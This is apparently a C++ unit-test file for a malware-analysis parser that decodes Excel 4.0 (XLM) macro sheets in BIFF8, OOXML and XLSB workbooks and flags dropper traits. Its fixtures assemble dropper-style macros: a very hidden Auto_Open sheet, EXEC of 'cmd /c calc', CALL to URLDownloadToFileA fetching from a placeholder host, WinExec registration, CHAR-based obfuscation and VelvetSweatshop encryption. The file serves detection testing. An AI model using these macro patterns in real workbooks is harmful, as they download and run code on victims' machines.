// xls: BIFF8 Workbook streams built in memory (tests/support/biff_builder) and OOXML parts written inline.
#include <gtest/gtest.h>

#include <algorithm>
#include <tuple>
#include <string>
#include <vector>

#include "formats/ole2/ole2.hpp"
#include "formats/xls/xls.hpp"
#include "support/biff_builder.hpp"
#include "support/cfb_builder.hpp"

namespace {

namespace xls = mamori::xls;
using namespace mamori::test;

mamori::ByteView view(const Buf& b) { return mamori::ByteView(b.data(), b.size()); }

const xls::FormulaCell* cell(const xls::Workbook& wb, std::uint32_t sheet, std::uint32_t row, std::uint32_t col) {
  for (const auto& f : wb.formulas)
    if (f.sheet == sheet && f.row == row && f.col == col) return &f;
  return nullptr;
}

// A dropper-shaped workbook: a visible worksheet, a very hidden macro sheet, Auto_Open pointing at it.
BiffSpec dropper() {
  return biff_macro_dropper({
      biff_formula(0, 0, ptg::cat({ptg::str("cmd /c calc"), ptg::funcvar(110, 1)})),
      biff_formula(1, 0, ptg::cat({ptg::integer(61), ptg::func(111), ptg::integer(72), ptg::func(111), ptg::op(0x08)})),
      biff_formula(2, 0, ptg::cat({ptg::str("urlmon"), ptg::str("URLDownloadToFileA"), ptg::str("JJCCJJ"),
                                   ptg::integer(0), ptg::str("http://example.invalid/p"), ptg::str("c:\\u\\p.exe"),
                                   ptg::integer(0), ptg::integer(0), ptg::funcvar(150, 8)})),
      biff_formula(3, 0, ptg::cat({ptg::str("Kernel32"), ptg::str("WinExec"), ptg::str("JCJ"), ptg::funcvar(149, 3)})),
      biff_formula(4, 0, ptg::cat({ptg::str("=EXEC(1)"), ptg::ref3d(1, 9, 2), ptg::funcvar(97, 2, true)})),
      biff_formula(5, 0, ptg::cat({ptg::ref(0, 1, true), ptg::funcvar(17, 1, true)})),
      biff_formula(6, 0, ptg::cat({ptg::funcvar(54, 0)})),
      biff_formula(7, 0, ptg::cat({ptg::integer(2), ptg::integer(3), ptg::op(0x03), ptg::op(0x15), ptg::integer(4),
                                   ptg::op(0x05)}), false),
      biff_formula(8, 0, ptg::cat({ptg::str("x"), ptg::funcvar(0x76, 1, true)}), true),
      biff_string("cached result"),
  });
}

TEST(XlsParse, MacroSheetFormulasDecodeToA1Text) {
  const auto stream = build_workbook_stream(dropper());
  auto r = xls::parse_workbook_stream(view(stream));
  ASSERT_TRUE(r.ok()) << r.error().to_string();
  const auto& wb = *r;
  EXPECT_EQ(wb.biff_version, 0x0600);
  ASSERT_EQ(wb.sheets.size(), 2u);
  EXPECT_EQ(wb.sheets[0].name, "Sheet1");
  EXPECT_EQ(wb.sheets[0].type, xls::SheetType::worksheet);
  EXPECT_EQ(wb.sheets[1].name, "Macro1");
  EXPECT_EQ(wb.sheets[1].type, xls::SheetType::macro_sheet);
  EXPECT_EQ(wb.sheets[1].visibility, xls::Visibility::very_hidden);
  EXPECT_TRUE(wb.sheets[1].bof_found);
  EXPECT_EQ(wb.sheets[1].bof_dt, 0x0040);

  ASSERT_EQ(wb.names.size(), 1u);
  EXPECT_EQ(wb.names[0].name, "Auto_Open");
  EXPECT_EQ(wb.names[0].builtin, xls::BuiltinName::auto_open);
  EXPECT_TRUE(wb.names[0].auto_open);
  EXPECT_TRUE(wb.names[0].hidden);
  EXPECT_EQ(wb.names[0].formula, "Macro1!$A$1");

  ASSERT_NE(cell(wb, 1, 0, 0), nullptr);
  EXPECT_EQ(cell(wb, 1, 0, 0)->text, "=EXEC(\"cmd /c calc\")");
  EXPECT_EQ(cell(wb, 1, 1, 0)->text, "=CHAR(61)&CHAR(72)");
  ASSERT_EQ(cell(wb, 1, 1, 0)->folded.size(), 1u);
  EXPECT_EQ(cell(wb, 1, 1, 0)->folded[0], "=H");
  EXPECT_EQ(cell(wb, 1, 2, 0)->text,
            "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://example.invalid/p\",\"c:\\u\\p.exe\",0,0)");
  EXPECT_EQ(cell(wb, 1, 3, 0)->text, "=REGISTER(\"Kernel32\",\"WinExec\",\"JCJ\")");
  EXPECT_EQ(cell(wb, 1, 4, 0)->text, "=FORMULA.FILL(\"=EXEC(1)\",Macro1!$C$10)");
  EXPECT_EQ(cell(wb, 1, 5, 0)->text, "=RUN(B1)");
  EXPECT_EQ(cell(wb, 1, 6, 0)->text, "=HALT()");
  EXPECT_EQ(cell(wb, 1, 7, 0)->text, "=(2+3)*4");
  EXPECT_EQ(cell(wb, 1, 8, 0)->text, "=ALERT(\"x\")");
  EXPECT_EQ(cell(wb, 1, 8, 0)->cached, "cached result");
  EXPECT_EQ(cell(wb, 1, 0, 0)->functions, std::vector<std::uint16_t>{110});
  EXPECT_EQ(cell(wb, 1, 4, 0)->functions, std::vector<std::uint16_t>{0x8061});
  for (const auto& f : wb.formulas) EXPECT_TRUE(f.complete) << f.text;

  const auto& c = wb.counts;
  EXPECT_EQ(c.macro_sheets, 1u);
  EXPECT_EQ(c.very_hidden_sheets, 1u);
  EXPECT_EQ(c.formulas, 9u);
  EXPECT_EQ(c.macro_formulas, 9u);
  EXPECT_EQ(c.exec, 1u);
  EXPECT_EQ(c.call, 1u);
  EXPECT_EQ(c.register_, 1u);
  EXPECT_EQ(c.run, 1u);
  EXPECT_EQ(c.formula_fill, 1u);
  EXPECT_EQ(c.halt, 1u);
  EXPECT_EQ(c.alert, 1u);
  EXPECT_EQ(c.char_calls, 2u);
  EXPECT_EQ(c.concat_ops, 1u);
  EXPECT_EQ(c.url_download, 1u);
  EXPECT_GE(c.shell_strings, 1u);
  EXPECT_EQ(c.auto_open_names, 1u);
  EXPECT_EQ(c.hidden_names, 1u);
  EXPECT_TRUE(wb.has_xlm());
  EXPECT_TRUE(wb.has(xls::Anomaly::very_hidden_sheet));
  EXPECT_TRUE(wb.has(xls::Anomaly::macro_sheet_hidden));
  EXPECT_TRUE(wb.has(xls::Anomaly::auto_open_name));
  EXPECT_FALSE(wb.has(xls::Anomaly::auto_open_name_obfuscated));
  EXPECT_FALSE(wb.has(xls::Anomaly::formula_unknown_token));
  EXPECT_FALSE(wb.has(xls::Anomaly::eof_missing));
  ASSERT_EQ(wb.strings.size(), 2u);  // the label and the cached STRING
  EXPECT_EQ(wb.strings[0].text, "Enable content");
}

TEST(XlsParse, ObfuscatedAutoOpenNameAndBofTypeMismatch) {
  BiffSpec s = dropper();
  s.sheets[1].dt = 0;           // declared a worksheet in BOUNDSHEET8 ...
  s.sheets[1].bof_dt = 0x0040;  // ... but its BOF says macro sheet
  BiffName n;
  n.name = "auTo_oPen77";
  n.rgce = ptg::ref3d(1, 0, 0);
  s.names = {n};
  const auto stream = build_workbook_stream(s);
  auto r = xls::parse_workbook_stream(view(stream));
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->sheets[1].type, xls::SheetType::macro_sheet);
  EXPECT_TRUE(r->has(xls::Anomaly::bof_type_mismatch));
  EXPECT_TRUE(r->names[0].auto_open);
  EXPECT_TRUE(r->has(xls::Anomaly::auto_open_name_obfuscated));
}

TEST(XlsParse, SstAcrossContinueAndLabelSst) {
  BiffSpec s;
  const std::string long_text(300, 'q');
  s.sst = {"first", long_text + "END", "third"};
  s.sst_split_at = 8 + 3 + 5 + 3 + 100;  // inside the second string's characters
  s.sheets = {{"S", 0, 0, 0, {biff_labelsst(0, 0, 1), biff_labelsst(1, 0, 2), biff_labelsst(2, 0, 99)}}};
  const auto stream = build_workbook_stream(s);
  auto r = xls::parse_workbook_stream(view(stream));
  ASSERT_TRUE(r.ok());
  ASSERT_EQ(r->sst.size(), 3u);
  EXPECT_EQ(r->sst[0], "first");
  EXPECT_EQ(r->sst[1], long_text + "END");
  EXPECT_EQ(r->sst[2], "third");
  EXPECT_FALSE(r->has(xls::Anomaly::sst_truncated));
  ASSERT_EQ(r->strings.size(), 2u);  // index 99 names no string
  EXPECT_EQ(r->strings[1].text, "third");
}

TEST(XlsCrypto, Rc4VelvetSweatshopIsDecrypted) {
  for (auto crypt : {BiffCrypt::rc4, BiffCrypt::rc4_cryptoapi}) {
    for (std::uint32_t bits : {40u, 128u}) {
      if (crypt == BiffCrypt::rc4 && bits == 40) continue;
      BiffSpec s = dropper();
      s.crypt = crypt;
      s.key_bits = bits;
      // Enough formulas to cross several 1024-byte re-keying blocks.
      for (std::uint16_t k = 20; k < 200; ++k)
        s.sheets[1].records.push_back(biff_formula(k, 1, ptg::cat({ptg::str("padding formula text " + std::to_string(k)),
                                                                   ptg::funcvar(110, 1)})));
      const auto plain_spec_stream = [&] {
        BiffSpec p = s;
        p.crypt = BiffCrypt::none;
        return build_workbook_stream(p);
      }();
      const auto stream = build_workbook_stream(s);
      // The cipher text must differ from the plain text (the records really are encrypted).
      ASSERT_GT(stream.size(), 4096u);
      EXPECT_EQ(std::search(stream.begin(), stream.end(), std::begin("cmd /c calc"), std::end("cmd /c calc") - 1),
                stream.end());
      auto r = xls::parse_workbook_stream(view(stream));
      ASSERT_TRUE(r.ok());
      EXPECT_TRUE(r->has(xls::Anomaly::encrypted));
      EXPECT_EQ(r->encryption.method, crypt == BiffCrypt::rc4 ? xls::Encryption::rc4 : xls::Encryption::rc4_cryptoapi);
      EXPECT_TRUE(r->encryption.decrypted);
      EXPECT_EQ(r->encryption.password, "VelvetSweatshop");
      EXPECT_EQ(r->encryption.key_bits, crypt == BiffCrypt::rc4 ? 128u : bits);
      EXPECT_FALSE(r->has(xls::Anomaly::encrypted_unknown_password));
      ASSERT_EQ(r->sheets.size(), 2u);
      EXPECT_EQ(r->sheets[1].name, "Macro1");
      ASSERT_NE(cell(*r, 1, 0, 0), nullptr);
      EXPECT_EQ(cell(*r, 1, 0, 0)->text, "=EXEC(\"cmd /c calc\")");
      EXPECT_EQ(cell(*r, 1, 199, 1)->text, "=EXEC(\"padding formula text 199\")");
      EXPECT_EQ(r->counts.exec, 181u);
      EXPECT_EQ(r->names[0].formula, "Macro1!$A$1");
      // Same model as the plain workbook.
      auto p = xls::parse_workbook_stream(view(plain_spec_stream));
      ASSERT_TRUE(p.ok());
      EXPECT_EQ(p->formulas.size(), r->formulas.size());
    }
  }
}

TEST(XlsCrypto, OtherPasswordIsReportedNotGuessed) {
  BiffSpec s = dropper();
  s.crypt = BiffCrypt::rc4;
  s.password = u"infected";
  const auto stream = build_workbook_stream(s);
  auto r = xls::parse_workbook_stream(view(stream));
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->encryption.method, xls::Encryption::rc4);
  EXPECT_FALSE(r->encryption.decrypted);
  EXPECT_TRUE(r->has(xls::Anomaly::encrypted_unknown_password));
  EXPECT_TRUE(r->formulas.empty());

  xls::FilePass fp;
  fp.method = xls::Encryption::rc4;
  std::array<std::uint8_t, 16> v{};
  xls::make_verifier(fp, u"infected", v);
  EXPECT_TRUE(xls::check_password(fp, u"infected"));
  EXPECT_FALSE(xls::check_password(fp, u"VelvetSweatshop"));
}

TEST(XlsCrypto, XorObfuscationIsReported) {
  BiffSpec s = dropper();
  s.crypt = BiffCrypt::xor_obfuscation;
  const auto stream = build_workbook_stream(s);
  auto r = xls::parse_workbook_stream(view(stream));
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->encryption.method, xls::Encryption::xor_obfuscation);
  EXPECT_TRUE(r->has(xls::Anomaly::encryption_unsupported));
  EXPECT_FALSE(r->encryption.decrypted);
}

TEST(XlsDegrade, NotBiff) {
  const Buf junk(64, 0x41);
  auto r = xls::parse_workbook_stream(view(junk));
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, mamori::ErrorCode::not_this_format);
}

TEST(XlsDegrade, TruncatedStreamKeepsWhatWasRead) {
  const auto full = build_workbook_stream(dropper());
  for (std::size_t cut : {full.size() - 3, full.size() / 2, std::size_t{30}}) {
    const Buf part(full.begin(), full.begin() + static_cast<std::ptrdiff_t>(cut));
    auto r = xls::parse_workbook_stream(view(part));
    ASSERT_TRUE(r.ok()) << cut;
    EXPECT_TRUE(r->has(xls::Anomaly::record_truncated) || r->has(xls::Anomaly::eof_missing)) << cut;
  }
  const Buf part(full.begin(), full.end() - 3);
  auto r = xls::parse_workbook_stream(view(part));
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->counts.exec, 1u);
}

TEST(XlsDegrade, BadTokensStopOneFormulaOnly) {
  BiffSpec s;
  s.sheets = {{"M", 1, 0, 0,
               {biff_formula(0, 0, ptg::cat({ptg::str("a"), Buf{0x18, 0x01}, ptg::str("b")})),   // ptgExtended: unknown
                biff_formula(1, 0, ptg::cat({ptg::str("a"), ptg::op(0x08)})),                    // & with one operand
                biff_formula(2, 0, Buf{0x17, 0x09, 0x00, 'a'}),                                  // string cut off
                biff_formula(3, 0, ptg::cat({ptg::str("a"), ptg::str("b")})),                    // two values left
                biff_formula(4, 0, ptg::cat({ptg::integer(1), Buf{0x41, 0xF0, 0x01}})),          // unknown fixed function
                biff_formula(5, 0, ptg::cat({ptg::str("ok"), ptg::funcvar(110, 1)}))}}};
  const auto stream = build_workbook_stream(s);
  auto r = xls::parse_workbook_stream(view(stream));
  ASSERT_TRUE(r.ok());
  EXPECT_FALSE(cell(*r, 0, 0, 0)->complete);
  EXPECT_EQ(cell(*r, 0, 0, 0)->text, "=\"a\" <?>");
  EXPECT_TRUE(r->has(xls::Anomaly::formula_unknown_token));
  EXPECT_FALSE(cell(*r, 0, 1, 0)->complete);
  EXPECT_TRUE(r->has(xls::Anomaly::formula_stack_underflow));
  EXPECT_FALSE(cell(*r, 0, 2, 0)->complete);
  EXPECT_TRUE(r->has(xls::Anomaly::formula_truncated));
  EXPECT_TRUE(r->has(xls::Anomaly::formula_unbalanced));
  EXPECT_TRUE(r->has(xls::Anomaly::formula_unknown_function));
  EXPECT_EQ(cell(*r, 0, 5, 0)->text, "=EXEC(\"ok\")");
  EXPECT_TRUE(cell(*r, 0, 5, 0)->complete);
  EXPECT_EQ(r->counts.unknown_tokens, 1u);
}

TEST(XlsDegrade, StackAndTokenCaps) {
  Buf deep, wide;
  for (int k = 0; k < 2000; ++k) {
    const auto t = ptg::integer(1);
    deep.insert(deep.end(), t.begin(), t.end());
  }
  for (int k = 0; k < 9000; ++k) {
    const auto t = ptg::attr_space();
    wide.insert(wide.end(), t.begin(), t.end());
  }
  mamori::ByteView dv(deep.data(), deep.size()), wv(wide.data(), wide.size());
  const xls::FormulaContext ctx;
  const auto d = xls::decode_formula(dv, ctx);
  EXPECT_FALSE(d.complete);
  ASSERT_FALSE(d.anomalies.empty());
  EXPECT_EQ(d.anomalies[0].code, xls::Anomaly::formula_stack_overflow);
  const auto w = xls::decode_formula(wv, ctx);
  EXPECT_FALSE(w.complete);
  ASSERT_FALSE(w.anomalies.empty());
  EXPECT_EQ(w.anomalies[0].code, xls::Anomaly::formula_tokens_truncated_by_limit);
  EXPECT_EQ(w.tokens, xls::limits::max_formula_tokens);
}

TEST(XlsDegrade, BoundSheetPointingNowhereAndMissingEof) {
  BiffSpec s = dropper();
  s.sheets[1].write_eof = false;
  auto stream = build_workbook_stream(s);
  // Point the first BOUNDSHEET8 past the end of the stream.
  for (std::size_t k = 0; k + 8 < stream.size(); ++k) {
    if (stream[k] == 0x85 && stream[k + 1] == 0x00) {
      stream[k + 4] = 0xFF;
      stream[k + 5] = 0xFF;
      stream[k + 6] = 0xFF;
      stream[k + 7] = 0x00;
      break;
    }
  }
  auto r = xls::parse_workbook_stream(view(stream));
  ASSERT_TRUE(r.ok());
  EXPECT_TRUE(r->has(xls::Anomaly::boundsheet_offset_invalid));
  EXPECT_TRUE(r->has(xls::Anomaly::eof_missing));
  // The substreams are still matched (in order) and decoded.
  EXPECT_EQ(r->counts.exec, 1u);
}

TEST(XlsFormula, OperatorsReferencesAndAttrs) {
  const xls::FormulaContext ctx;
  auto dec = [&](const Buf& b) { return xls::decode_formula(mamori::ByteView(b.data(), b.size()), ctx); };
  EXPECT_EQ(dec(ptg::cat({ptg::area(0, 0, 9, 1), ptg::attr_sum()})).text, "SUM($A$1:$B$10)");
  EXPECT_EQ(dec(ptg::cat({ptg::boolean(true), ptg::missing(), ptg::num(1.5), ptg::funcvar(1, 3)})).text, "IF(TRUE,,1.5)");
  EXPECT_EQ(dec(ptg::cat({ptg::ref(4, 27, true), ptg::integer(3), ptg::op(0x0E)})).text, "AB5<>3");
  EXPECT_EQ(dec(ptg::cat({ptg::integer(5), ptg::op(0x13), ptg::op(0x14)})).text, "-5%");
  EXPECT_EQ(dec(Buf{0x01, 0x02, 0x00, 0x03, 0x00}).text, "SHARED(D3)");
  EXPECT_EQ(dec(ptg::cat({ptg::name(3)})).text, "NAME#3");
  EXPECT_EQ(dec(ptg::cat({ptg::str("a\"b")})).text, "\"a\"\"b\"");
  // CHAR of arithmetic on literals folds too.
  const auto f = dec(ptg::cat({ptg::integer(100), ptg::integer(1), ptg::op(0x04), ptg::func(111), ptg::str("ir"),
                               ptg::op(0x08)}));
  EXPECT_EQ(f.text, "CHAR(100-1)&\"ir\"");
  ASSERT_EQ(f.folded.size(), 1u);
  EXPECT_EQ(f.folded[0], "cir");
  EXPECT_EQ(xls::a1(0, 0), "A1");
  EXPECT_EQ(xls::a1(65535, 255, true, true), "$IV$65536");
  EXPECT_STREQ(xls::function_name(0x8060), "FORMULA");
  EXPECT_STREQ(xls::function_name(110), "EXEC");
  EXPECT_EQ(xls::function_fixed_args(111), 1);
}

TEST(XlsOle2, WorkbookStreamInCompoundFile) {
  CfbSpec spec;
  spec.streams = {{"Workbook", build_workbook_stream(dropper())}};
  const auto file = build_cfb(spec);
  auto f = mamori::ole2::parse(mamori::ByteView(file.data(), file.size()));
  ASSERT_TRUE(f.ok());
  auto r = xls::parse_ole2(*f);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->counts.exec, 1u);
  CfbSpec other;
  other.streams = {{"WordDocument", Buf(100, 0)}};
  const auto doc = build_cfb(other);
  auto g = mamori::ole2::parse(mamori::ByteView(doc.data(), doc.size()));
  ASSERT_TRUE(g.ok());
  EXPECT_FALSE(xls::parse_ole2(*g).ok());
}

TEST(XlsOoxml, MacroSheetWorkbookAndNames) {
  const std::string workbook = R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<!-- a comment with <sheet name="fake"/> inside -->
<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Mac&amp;ro" sheetId="2" state="veryHidden" r:id="rId2"/></sheets>
<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">'Mac&amp;ro'!$A$1</definedName><definedName name="x">Sheet1!$B$2</definedName></definedNames></workbook>)";
  const std::string rels = R"(<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>
<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>)";
  const std::string sheet = R"(<xm:macrosheet xmlns:xm="x"><sheetData><row r="1"><c r="A1" t="str"><f>EXEC("cmd /c &quot;calc&quot;")</f><v>0</v></c></row>
<row r="2"><c r="A2"><f>CHAR(61)&amp;CHAR(72)&amp;"x"</f></c><c r="B2"><f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://e.invalid","c:\a",0,0)</f></c></row>
<row r="3"><c r="C3"><f>_xlfn.FORMULA.FILL(A1,B1)</f></c><c r="D3"><f t="shared" si="0"/></c><c r="E3"><v>1</v></c></row></sheetData></xm:macrosheet>)";
  const xls::OoxmlPart parts[] = {{"xl/macrosheets/sheet1.xml",
                                   mamori::ByteView(sheet.data(), sheet.size())}};
  const auto wb = xls::parse_ooxml(mamori::ByteView(workbook.data(), workbook.size()),
                                   mamori::ByteView(rels.data(), rels.size()), parts);
  EXPECT_TRUE(wb.ooxml);
  ASSERT_EQ(wb.sheets.size(), 2u);
  EXPECT_EQ(wb.sheets[1].name, "Mac&ro");
  EXPECT_EQ(wb.sheets[1].type, xls::SheetType::macro_sheet);
  EXPECT_EQ(wb.sheets[1].visibility, xls::Visibility::very_hidden);
  EXPECT_EQ(wb.sheets[0].type, xls::SheetType::worksheet);
  ASSERT_EQ(wb.names.size(), 2u);
  EXPECT_TRUE(wb.names[0].auto_open);
  EXPECT_TRUE(wb.names[0].hidden);
  EXPECT_EQ(wb.names[0].builtin, xls::BuiltinName::auto_open);
  EXPECT_EQ(wb.names[0].formula, "'Mac&ro'!$A$1");
  ASSERT_EQ(wb.formulas.size(), 5u);
  EXPECT_EQ(wb.formulas[0].text, "=EXEC(\"cmd /c \"calc\"\")");
  EXPECT_EQ(wb.formulas[0].sheet, 1u);
  EXPECT_EQ(wb.formulas[2].row, 1u);
  EXPECT_EQ(wb.formulas[2].col, 1u);
  EXPECT_EQ(wb.formulas[4].text, "=SHARED(0)");
  EXPECT_EQ(wb.counts.exec, 1u);
  EXPECT_EQ(wb.counts.call, 1u);
  EXPECT_EQ(wb.counts.char_calls, 2u);
  EXPECT_EQ(wb.counts.concat_ops, 2u);
  EXPECT_EQ(wb.counts.formula_fill, 1u);
  EXPECT_EQ(wb.counts.url_download, 1u);
  EXPECT_EQ(wb.counts.macro_sheets, 1u);
  EXPECT_EQ(wb.counts.macro_formulas, 5u);
  EXPECT_EQ(wb.counts.auto_open_names, 1u);
  EXPECT_FALSE(wb.has(xls::Anomaly::xml_malformed));

  const std::string broken = "<macrosheet><c r=\"A1\"><f>EXEC(1)</f></c><c r=\"A2\"><f>HALT(";
  const xls::OoxmlPart bp[] = {{"xl/macrosheets/m.xml", mamori::ByteView(broken.data(), broken.size())}};
  const auto wb2 = xls::parse_ooxml({}, {}, bp);
  ASSERT_EQ(wb2.sheets.size(), 1u);
  EXPECT_EQ(wb2.sheets[0].type, xls::SheetType::macro_sheet);
  EXPECT_EQ(wb2.counts.exec, 1u);
  ASSERT_EQ(wb2.formulas.size(), 2u);
  EXPECT_EQ(wb2.formulas[1].text, "=HALT(");
}

}  // namespace

namespace {

// [MS-XLSB] records: varint type and size.
Buf brt(std::uint32_t type, const Buf& body) {
  Buf b;
  if (type < 0x80) {
    b.push_back(static_cast<std::uint8_t>(type));
  } else {
    b.push_back(static_cast<std::uint8_t>((type & 0x7F) | 0x80));
    b.push_back(static_cast<std::uint8_t>(type >> 7));
  }
  std::uint32_t n = static_cast<std::uint32_t>(body.size());
  do {
    std::uint8_t x = n & 0x7F;
    n >>= 7;
    if (n) x |= 0x80;
    b.push_back(x);
  } while (n);
  b.insert(b.end(), body.begin(), body.end());
  return b;
}
void le32(Buf& b, std::uint32_t v) {
  for (int k = 0; k < 4; ++k) b.push_back(static_cast<std::uint8_t>(v >> (8 * k)));
}
void wide(Buf& b, const std::string& s) {
  le32(b, static_cast<std::uint32_t>(s.size()));
  for (char c : s) {
    b.push_back(static_cast<std::uint8_t>(c));
    b.push_back(0);
  }
}
Buf str12(const std::string& s) {
  Buf b{0x17, static_cast<std::uint8_t>(s.size()), 0};
  for (char c : s) {
    b.push_back(static_cast<std::uint8_t>(c));
    b.push_back(0);
  }
  return b;
}

// BrtBundleSh: a sheet's state, its relationship id and name.
Buf brt_sheet(std::uint32_t state, const std::string& rid, const std::string& name) {
  Buf b;
  le32(b, state);
  le32(b, 1);
  wide(b, rid);
  wide(b, name);
  return brt(0x9C, b);
}
// BrtName: flags (1 = hidden), no sheet scope, the name and its formula.
Buf brt_name(std::uint32_t flags, const std::string& name, const Buf& rgce) {
  Buf n;
  le32(n, flags);
  n.push_back(0);
  le32(n, 0xFFFFFFFF);
  wide(n, name);
  le32(n, static_cast<std::uint32_t>(rgce.size()));
  n.insert(n.end(), rgce.begin(), rgce.end());
  le32(n, 0);
  return brt(0x27, n);
}
Buf brt_row(std::uint32_t row) {
  Buf b;
  le32(b, row);
  return brt(0x00, b);
}
// BrtFmlaNum: column, style, the cached number, flags, then the formula.
Buf brt_fmla_num(std::uint32_t col, const Buf& rgce) {
  Buf d;
  le32(d, col);
  le32(d, 0);
  for (int k = 0; k < 10; ++k) d.push_back(0);
  le32(d, static_cast<std::uint32_t>(rgce.size()));
  d.insert(d.end(), rgce.begin(), rgce.end());
  le32(d, 0);
  return brt(0x09, d);
}

TEST(XlsOoxml, XlsbWorkbookAndMacroSheet) {
  Buf book = ptg::cat({brt_sheet(0, "rId1", "Sheet1"), brt_sheet(2, "rId2", "Macro1")});
  {
    Buf xs;
    le32(xs, 1);
    le32(xs, 0);
    le32(xs, 1);
    le32(xs, 1);
    book = ptg::cat({book, brt(0x16A, xs)});
    const Buf rgce{0x3A, 0, 0, 0, 0, 0, 0, 0, 0};  // ptgRef3d ixti 0, row 0, col 0
    book = ptg::cat({book, brt_name(1, "_xlnm.Auto_Open", rgce)});
  }
  Buf sheet = brt_row(0);
  {
    Buf c;
    le32(c, 0);
    le32(c, 0);
    wide(c, "cached");
    c.push_back(0);
    c.push_back(0);
    const Buf rgce = ptg::cat({str12("cmd /c calc"), ptg::funcvar(110, 1)});
    le32(c, static_cast<std::uint32_t>(rgce.size()));
    c.insert(c.end(), rgce.begin(), rgce.end());
    le32(c, 0);
    sheet = ptg::cat({sheet, brt(0x08, c)});
    const Buf rgce2 = ptg::cat({ptg::integer(65), ptg::func(111), Buf{0x44, 2, 0, 0, 0, 1, 0xC0}, ptg::op(0x08)});
    sheet = ptg::cat({sheet, brt_row(1), brt_fmla_num(2, rgce2)});
  }
  const std::string rels = R"(<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="worksheets/sheet1.bin"/>
<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.bin"/></Relationships>)";
  const xls::OoxmlPart parts[] = {{"xl/macrosheets/sheet1.bin", mamori::ByteView(sheet.data(), sheet.size())}};
  const auto wb = xls::parse_ooxml(mamori::ByteView(book.data(), book.size()), mamori::ByteView(rels.data(), rels.size()), parts);
  ASSERT_EQ(wb.sheets.size(), 2u);
  EXPECT_EQ(wb.sheets[1].name, "Macro1");
  EXPECT_EQ(wb.sheets[1].type, xls::SheetType::macro_sheet);
  EXPECT_EQ(wb.sheets[1].visibility, xls::Visibility::very_hidden);
  ASSERT_EQ(wb.names.size(), 1u);
  EXPECT_TRUE(wb.names[0].auto_open);
  EXPECT_TRUE(wb.names[0].hidden);
  EXPECT_EQ(wb.names[0].formula, "Macro1!$A$1");
  ASSERT_EQ(wb.formulas.size(), 2u);
  EXPECT_EQ(wb.formulas[0].text, "=EXEC(\"cmd /c calc\")");
  EXPECT_EQ(wb.formulas[0].cached, "cached");
  EXPECT_EQ(wb.formulas[1].row, 1u);
  EXPECT_EQ(wb.formulas[1].col, 2u);
  EXPECT_EQ(wb.formulas[1].text, "=CHAR(65)&B3");
  EXPECT_EQ(wb.counts.exec, 1u);
  EXPECT_EQ(wb.counts.macro_formulas, 2u);
  EXPECT_EQ(wb.counts.auto_open_names, 1u);
}

// The XLSB path counts what the BIFF path counts: a token the decoder does not know, in a cell and in a name.
TEST(XlsOoxml, XlsbCountsUnknownTokensLikeBiff) {
  const Buf unknown = ptg::cat({str12("a"), Buf{0x18, 0x01}, str12("b")});  // ptgExtended: unknown
  const Buf book = ptg::cat({brt_sheet(0, "rId1", "Macro1"), brt_name(0, "Odd", unknown)});
  const Buf sheet = ptg::cat({brt_row(0), brt_fmla_num(0, unknown)});
  const std::string rels = R"(<Relationships><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.bin"/></Relationships>)";
  const xls::OoxmlPart parts[] = {{"xl/macrosheets/sheet1.bin", mamori::ByteView(sheet.data(), sheet.size())}};
  const auto wb = xls::parse_ooxml(mamori::ByteView(book.data(), book.size()), mamori::ByteView(rels.data(), rels.size()), parts);
  ASSERT_EQ(wb.formulas.size(), 1u);
  EXPECT_FALSE(wb.formulas[0].complete);
  ASSERT_EQ(wb.names.size(), 1u);
  EXPECT_TRUE(wb.has(xls::Anomaly::formula_unknown_token));
  EXPECT_EQ(wb.counts.unknown_tokens, 2u);
  EXPECT_GE(wb.counts.tokens, 2u);
}

}  // namespace
